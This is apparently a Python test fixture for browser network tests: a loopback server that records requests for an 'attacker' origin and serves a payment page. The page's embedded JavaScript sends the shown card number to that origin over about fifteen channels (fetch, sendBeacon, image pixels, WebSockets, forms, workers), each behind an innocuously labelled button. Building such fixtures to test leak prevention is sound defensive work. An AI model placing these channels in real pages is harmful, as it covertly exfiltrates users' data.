"""A local HTTP server that records every request it receives: the "attacker" of the network tests.

It listens on 127.0.0.1 and answers any host name that resolves there: Chromium resolves `*.localhost`
to loopback, so `http://attacker-3.localhost:PORT` is another site than `http://127.0.0.1:PORT` while
reaching the same server. It also serves a page holding a secret (`/secret.html`), a small frame, and
a page whose HTML loads an image from another site (`/third-party.html?cdn=<origin>`).
"""

from __future__ import annotations

import itertools
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote

SECRET = "4111 1111 1111 1111"

SECRET_PAGE = f"""<!doctype html><html lang="en"><head><title>Payment details</title></head><body>
<h1>Your card</h1><p id="card">Card number: <span id="secret">{SECRET}</span></p>
<button id="details" onclick="sendDetails()">Show details</button>
<div id="channels"></div>
<script>
  // A page script that reports what is shown to another site when its button is clicked.
  function sendDetails() {{
    const to = document.body.dataset.to || new URL(location.href).searchParams.get('to');
    const card = document.getElementById('secret').textContent;
    if (to) new Image().src = to + '/track?card=' + encodeURIComponent(card);
    document.title = 'details shown';
  }}
  // Every way a page's own script can send what it shows elsewhere (`?to=<origin>`, or `?url=<address>`
  // to open), each behind a button of its own with an ordinary name: the network tests click them.
  const to = new URL(location.href).searchParams.get('to') || '';
  const url = new URL(location.href).searchParams.get('url') || '';
  const s = () => document.getElementById('secret').textContent;
  const CHANNELS = {{
    'fetch': () => fetch(to + '/collect', {{ method: 'POST', body: s() }}).catch(() => 0),
    'xhr': () => {{ const x = new XMLHttpRequest(); x.open('POST', to + '/xhr'); x.send(s()); }},
    'beacon': () => navigator.sendBeacon(to + '/beacon', s()),
    'image': () => {{ new Image().src = to + '/pixel.gif?d=' + encodeURIComponent(s()); }},
    'image-path': () => {{ new Image().src = to + '/' + s().replace(/ /g, ''); }},
    'socket': () => {{ new WebSocket(to.replace('http', 'ws') + '/socket?d=' + encodeURIComponent(s())); }},
    'form': () => {{ const f = document.createElement('form'); f.action = to + '/search';
      const i = document.createElement('input'); i.name = 'q'; i.value = s(); f.append(i);
      document.body.append(f); f.submit(); }},
    'location': () => {{ location.href = (url || to + '/?q=' + encodeURIComponent(s())); }},
    'open': () => {{ window.open(url || to + '/?q=' + encodeURIComponent(s())); }},
    'frame': () => {{ const f = document.createElement('iframe');
      f.src = url || to + '/frame.html?d=' + encodeURIComponent(s()); document.body.append(f); }},
    'worker': () => {{ const w = new Worker(URL.createObjectURL(new Blob(
      ['onmessage = (e) => fetch(e.data, {{ method: "POST", body: "x" }}).catch(() => 0)'],
      {{ type: 'text/javascript' }})));
      w.postMessage(to + '/worker?d=' + encodeURIComponent(s())); }},
    'plain': () => fetch(to + '/plain').catch(() => 0),
    'later': () => setTimeout(() => fetch(to + '/later', {{ method: 'POST', body: s() }})
      .catch(() => 0), 300),
    'link': () => {{ const a = document.createElement('a'); a.href = url; a.target = '_blank';
      a.textContent = 'x'; document.body.append(a); a.click(); }},
  }};
  for (const [name, send] of Object.entries(CHANNELS)) {{
    const b = document.createElement('button');
    b.id = 'ch-' + name;
    b.textContent = 'More about this card (' + name + ')';
    b.onclick = send;
    document.getElementById('channels').append(b);
  }}
</script></body></html>"""

FRAME_PAGE = "<!doctype html><html><body><p>a frame</p></body></html>"


@dataclass(frozen=True, slots=True)
class Hit:
    host: str
    method: str
    path: str
    body: str
    referer: str = ""
    headers: str = ""


class RecordingHandler(BaseHTTPRequestHandler):
    """Records each request (`record`) before a subclass answers it."""

    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        return None

    def record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
        referer = self.headers.get("Referer", "")
        self.server.hits.append(
            Hit(self.headers.get("Host", ""), self.command, self.path, body, referer, str(self.headers))
        )


class _Handler(RecordingHandler):
    def _answer(self) -> None:
        self.record()
        path, _, query = self.path.partition("?")
        page = {"/secret.html": SECRET_PAGE, "/frame.html": FRAME_PAGE}.get(path)
        if path == "/third-party.html":  # a page whose HTML loads an image from another site (a CDN)
            cdn = unquote(query.removeprefix("cdn="))
            page = f'<!doctype html><html><body><img src="{cdn}/cdn.png?w=300&v=2">a page</body></html>'

        payload = (page or "ok").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if page else "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = do_PUT = _answer


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(("127.0.0.1", 0), handler)
        self.hits: list[Hit] = []


class Recorder:
    """`with Recorder() as r:` — `r.origin` is the allowed site (127.0.0.1), `r.attacker()` a new site."""

    def __init__(self, handler: type[RecordingHandler] | None = None) -> None:
        """`handler`: how the server answers (the default serves the pages above)."""
        self._server = _Server(handler or _Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._names = itertools.count(1)

    @property
    def port(self) -> int:
        return int(self._server.server_address[1])

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def attacker(self) -> str:
        """The origin of a site no test has used yet, in any module: the port is in the name, since a site
        is its host to the task's sites, and one module's attacker-1 must not be another's task site."""
        return f"http://attacker-{self.port}-{next(self._names)}.localhost:{self.port}"

    @property
    def hits(self) -> list[Hit]:
        return list(self._server.hits)

    def to(self, origin: str) -> list[Hit]:
        host = origin.split("://", 1)[1]
        return [h for h in self.hits if h.host == host]

    def __enter__(self) -> Recorder:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
